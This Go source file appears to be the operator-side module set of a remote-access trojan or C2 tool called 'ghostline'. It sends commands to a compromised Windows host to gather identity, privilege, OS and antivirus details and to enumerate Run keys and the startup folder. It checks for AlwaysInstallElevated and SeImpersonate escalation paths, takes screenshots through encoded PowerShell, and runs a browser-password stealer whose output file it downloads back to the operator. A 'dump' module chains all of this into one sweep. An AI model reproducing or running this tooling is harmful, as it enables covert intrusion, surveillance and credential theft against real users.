package main

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
	"unicode/utf16"

	"ghostline/shared"
)

// Remote command strings. These, together with the predicates applied to
// their replies, are the protocol contract with the remote side.
const (
	cmdHostname        = "hostname"
	cmdWhoami          = "whoami"
	cmdComputerName    = "echo %COMPUTERNAME%"
	cmdUserDomain      = "echo %USERDOMAIN%"
	cmdNetSession      = `net session 2>&1 | findstr /C:"Access is denied" /C:"accs refus"`
	cmdOSInfo          = `systeminfo | findstr /B /C:"OS" /C:"System"`
	cmdAntivirus       = `powershell -Command "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct | Select-Object -ExpandProperty displayName" 2>$null`
	cmdRunKeys         = `reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`
	cmdStartupFolder   = `dir "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup" /B`
	cmdPrivileges      = `whoami /priv | findstr /I "Enabled"`
	cmdInstallElevated = `reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated 2>nul && reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated 2>nul`
	cmdSeImpersonate   = `whoami /priv | findstr SeImpersonate`
	cmdNetstat         = `netstat -ano | findstr ESTABLISHED | findstr /V "127.0.0.1"`
	cmdStealer         = "stealer"
)

// stealerOutputPath is the well-known file the remote stealer writes; the
// placeholder is resolved by the remote shell.
const stealerOutputPath = `%TEMP%\browser_passwords.txt`

const (
	avTimeout         = 8 * time.Second
	screenshotTimeout = 12 * time.Second
	stealerTimeout    = 60 * time.Second

	maxRunKeyEntries    = 15
	maxPrivilegeEntries = 15
	maxConnectionRows   = 20
)

// Pacing between chained exchanges. Variables so tests can shorten them.
var (
	harvestChainDelay = time.Second
	dumpPacing        = time.Second
)

func firstN(lines []string, n int) []string {
	if len(lines) > n {
		return lines[:n]
	}
	return lines
}

// classifyPrivilege is a binary classification: a denial phrase anywhere in
// the reply means an unprivileged session, anything else means elevated.
func classifyPrivilege(raw string) string {
	lower := strings.ToLower(raw)
	for _, phrase := range []string{"denied", "refus"} {
		if strings.Contains(lower, phrase) {
			return "USER"
		}
	}
	return "ADMINISTRATOR"
}

// installElevatedVulnerable holds when both the HKLM and HKCU policies
// report 0x1, so the marker must occur at least twice in the combined reply.
func installElevatedVulnerable(raw string) bool {
	return strings.Count(raw, "0x1") >= 2
}

// seImpersonateExploitable holds when the reply names the privilege and
// carries the Enabled qualifier.
func seImpersonateExploitable(raw string) bool {
	return strings.Contains(raw, "SeImpersonate") && strings.Contains(raw, "Enabled")
}

type sysinfoModule struct{}

func (*sysinfoModule) Name() string        { return "sysinfo" }
func (*sysinfoModule) Description() string { return "System recon: identity, privilege level, OS, AV" }

func (m *sysinfoModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	identity := Section{Title: "Basic Information"}
	probes := []struct{ cmd, label string }{
		{cmdHostname, "Hostname"},
		{cmdWhoami, "User"},
		{cmdComputerName, "Computer"},
		{cmdUserDomain, "Domain"},
	}
	for _, p := range probes {
		out, err := Exchange(sess, p.cmd, defaultTimeout)
		if err != nil {
			continue
		}
		if lines := shared.CleanLines(out); len(lines) > 0 {
			identity.Entries = append(identity.Entries, Entry{Label: p.label, Value: lines[0]})
		}
	}
	f.Sections = append(f.Sections, identity)

	priv := Section{Title: "Privilege Level"}
	if out, err := Exchange(sess, cmdNetSession, defaultTimeout); err == nil {
		priv.Entries = append(priv.Entries, Entry{Label: "Status", Value: classifyPrivilege(out)})
	}
	f.Sections = append(f.Sections, priv)

	osInfo := Section{Title: "Operating System"}
	if out, err := Exchange(sess, cmdOSInfo, defaultTimeout); err == nil {
		for _, line := range firstN(shared.CleanLines(out), 5) {
			osInfo.Entries = append(osInfo.Entries, Entry{Value: line})
		}
	}
	f.Sections = append(f.Sections, osInfo)

	av := Section{Title: "Antivirus"}
	if out, err := Exchange(sess, cmdAntivirus, avTimeout); err == nil {
		var products []string
		for _, line := range shared.CleanLines(out) {
			// Skip echoes of the query itself.
			if !strings.Contains(line, "Get-CimInstance") {
				products = append(products, line)
			}
		}
		for _, p := range firstN(products, 3) {
			av.Entries = append(av.Entries, Entry{Value: p})
		}
	}
	if len(av.Entries) == 0 {
		av.Entries = append(av.Entries, Entry{Value: "Unable to detect"})
	}
	f.Sections = append(f.Sections, av)

	return f, nil
}

type persistModule struct{}

func (*persistModule) Name() string        { return "persist" }
func (*persistModule) Description() string { return "Persistence enumeration: Run keys, startup folder" }

func (m *persistModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	runKeys := Section{Title: "Registry Run Keys (HKCU)"}
	if out, err := Exchange(sess, cmdRunKeys, defaultTimeout); err == nil {
		var values []string
		for _, line := range shared.CleanLines(out) {
			if strings.Contains(line, "REG_SZ") {
				values = append(values, line)
			}
		}
		for _, v := range firstN(values, maxRunKeyEntries) {
			runKeys.Entries = append(runKeys.Entries, Entry{Value: v})
		}
	}
	f.Sections = append(f.Sections, runKeys)

	startup := Section{Title: "Startup Folder"}
	if out, err := Exchange(sess, cmdStartupFolder, defaultTimeout); err == nil {
		for _, line := range shared.CleanLines(out) {
			startup.Entries = append(startup.Entries, Entry{Value: line})
		}
	}
	if len(startup.Entries) == 0 {
		startup.Entries = append(startup.Entries, Entry{Value: "(Empty)"})
	}
	f.Sections = append(f.Sections, startup)

	return f, nil
}

type privescModule struct{}

func (*privescModule) Name() string        { return "privesc" }
func (*privescModule) Description() string { return "Privilege escalation checks" }

func (m *privescModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	privs := Section{Title: "Privileges"}
	if out, err := Exchange(sess, cmdPrivileges, defaultTimeout); err == nil {
		for _, line := range firstN(shared.CleanLines(out), maxPrivilegeEntries) {
			e := Entry{Value: line}
			if strings.Contains(line, "SeImpersonate") || strings.Contains(line, "SeDebug") {
				e.Tag = "EXPLOIT"
			}
			privs.Entries = append(privs.Entries, e)
		}
	}
	f.Sections = append(f.Sections, privs)

	aie := Section{Title: "AlwaysInstallElevated"}
	if out, err := Exchange(sess, cmdInstallElevated, defaultTimeout); err == nil {
		if installElevatedVulnerable(out) {
			aie.Entries = append(aie.Entries, Entry{Value: "VULNERABLE", Tag: "VULNERABLE"})
		} else {
			aie.Entries = append(aie.Entries, Entry{Value: "Not vulnerable"})
		}
	}
	f.Sections = append(f.Sections, aie)

	return f, nil
}

type autopwnModule struct{}

func (*autopwnModule) Name() string        { return "autopwn" }
func (*autopwnModule) Description() string { return "Automated privilege escalation checks" }

func (m *autopwnModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	aie := Section{Title: "AlwaysInstallElevated"}
	if out, err := Exchange(sess, cmdInstallElevated, defaultTimeout); err == nil {
		if installElevatedVulnerable(out) {
			aie.Entries = append(aie.Entries, Entry{
				Value: "VULNERABLE - deliver an MSI payload to escalate",
				Tag:   "VULNERABLE",
			})
		} else {
			aie.Entries = append(aie.Entries, Entry{Value: "Not vulnerable"})
		}
	}
	f.Sections = append(f.Sections, aie)

	imp := Section{Title: "SeImpersonate"}
	if out, err := Exchange(sess, cmdSeImpersonate, defaultTimeout); err == nil {
		if seImpersonateExploitable(out) {
			imp.Entries = append(imp.Entries, Entry{
				Value: "ENABLED - potato-family token impersonation applies",
				Tag:   "EXPLOIT",
			})
		} else {
			imp.Entries = append(imp.Entries, Entry{Value: "Not available"})
		}
	}
	f.Sections = append(f.Sections, imp)

	return f, nil
}

type networkModule struct{}

func (*networkModule) Name() string        { return "network" }
func (*networkModule) Description() string { return "Established connection enumeration" }

func (m *networkModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	conns := Section{Title: "Active Connections"}
	if out, err := Exchange(sess, cmdNetstat, defaultTimeout); err == nil {
		for _, line := range firstN(shared.CleanLines(out), maxConnectionRows) {
			conns.Entries = append(conns.Entries, Entry{Value: line})
		}
	}
	f.Sections = append(f.Sections, conns)

	return f, nil
}

// screenshotScript captures the primary screen to %TEMP%\sc.png and echoes
// the path back.
const screenshotScript = `Add-Type -A System.Windows.Forms,System.Drawing;$b=New-Object System.Drawing.Bitmap([System.Windows.Forms.Screen]::PrimaryScreen.Bounds.Width,[System.Windows.Forms.Screen]::PrimaryScreen.Bounds.Height);$g=[System.Drawing.Graphics]::FromImage($b);$g.CopyFromScreen(0,0,0,0,$b.Size);$b.Save("$env:TEMP\sc.png");Write-Host "Screenshot: $env:TEMP\sc.png"`

// encodePowershell base64-encodes a script as UTF-16LE, the encoding
// powershell.exe expects for -EncodedCommand.
func encodePowershell(script string) string {
	codes := utf16.Encode([]rune(script))
	buf := make([]byte, 0, len(codes)*2)
	for _, c := range codes {
		buf = append(buf, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(buf)
}

type screenshotModule struct{}

func (*screenshotModule) Name() string        { return "screenshot" }
func (*screenshotModule) Description() string { return "Capture the remote primary screen" }

func (m *screenshotModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	capture := Section{Title: "Screenshot"}
	cmd := "powershell -EncodedCommand " + encodePowershell(screenshotScript)
	if out, err := Exchange(sess, cmd, screenshotTimeout); err == nil {
		for _, line := range shared.CleanLines(out) {
			capture.Entries = append(capture.Entries, Entry{Value: line})
		}
	}
	f.Sections = append(f.Sections, capture)

	return f, nil
}

type stealerModule struct {
	xfer *TransferService
}

func (*stealerModule) Name() string        { return "stealer" }
func (*stealerModule) Description() string { return "Bulk credential harvest via the remote stealer" }

func (m *stealerModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	output := Section{Title: "Stealer Output"}
	out, err := Exchange(sess, cmdStealer, stealerTimeout)
	if err == nil {
		for _, line := range shared.CleanLines(out) {
			output.Entries = append(output.Entries, Entry{Value: line})
		}
	}
	f.Sections = append(f.Sections, output)

	// When the stealer reports a written file, chain straight into the
	// transfer sub-protocol for its well-known path.
	if strings.Contains(out, "Saved to:") {
		time.Sleep(harvestChainDelay)
		harvest := Section{Title: "Harvested File"}
		if res, err := m.xfer.Download(sess, stealerOutputPath); err != nil {
			harvest.Entries = append(harvest.Entries, Entry{Label: "Download", Value: err.Error(), Tag: "FAILED"})
		} else {
			harvest.Entries = append(harvest.Entries,
				Entry{Label: "Saved", Value: res.LocalPath},
				Entry{Label: "Size", Value: fmt.Sprintf("%d bytes", res.Size)},
			)
		}
		f.Sections = append(f.Sections, harvest)
	}

	return f, nil
}

type downloadModule struct {
	xfer *TransferService
}

func (*downloadModule) Name() string        { return "download" }
func (*downloadModule) Description() string { return "Retrieve the default harvest artifact" }

func (m *downloadModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	sec := Section{Title: "File Download"}
	if res, err := m.xfer.Download(sess, stealerOutputPath); err != nil {
		sec.Entries = append(sec.Entries, Entry{Label: "Download", Value: err.Error(), Tag: "FAILED"})
	} else {
		sec.Entries = append(sec.Entries,
			Entry{Label: "Remote", Value: res.RemotePath},
			Entry{Label: "Saved", Value: res.LocalPath},
			Entry{Label: "Size", Value: fmt.Sprintf("%d bytes", res.Size)},
		)
	}
	f.Sections = append(f.Sections, sec)

	return f, nil
}

// dumpModule sequences the main recon modules with short pacing delays. It
// adds no parsing of its own.
type dumpModule struct {
	sysinfo sysinfoModule
	persist persistModule
	privesc privescModule
	stealer *stealerModule
}

func (*dumpModule) Name() string        { return "dump" }
func (*dumpModule) Description() string { return "Full recon sweep: sysinfo, stealer, persist, privesc" }

func (m *dumpModule) Run(sess *Session) (*Findings, error) {
	f := &Findings{Module: m.Name()}

	steps := []Module{&m.sysinfo, m.stealer, &m.persist, &m.privesc}
	for i, step := range steps {
		if i > 0 {
			time.Sleep(dumpPacing)
		}
		sub, err := step.Run(sess)
		if err != nil || sub == nil {
			continue
		}
		f.Sections = append(f.Sections, sub.Sections...)
	}

	return f, nil
}
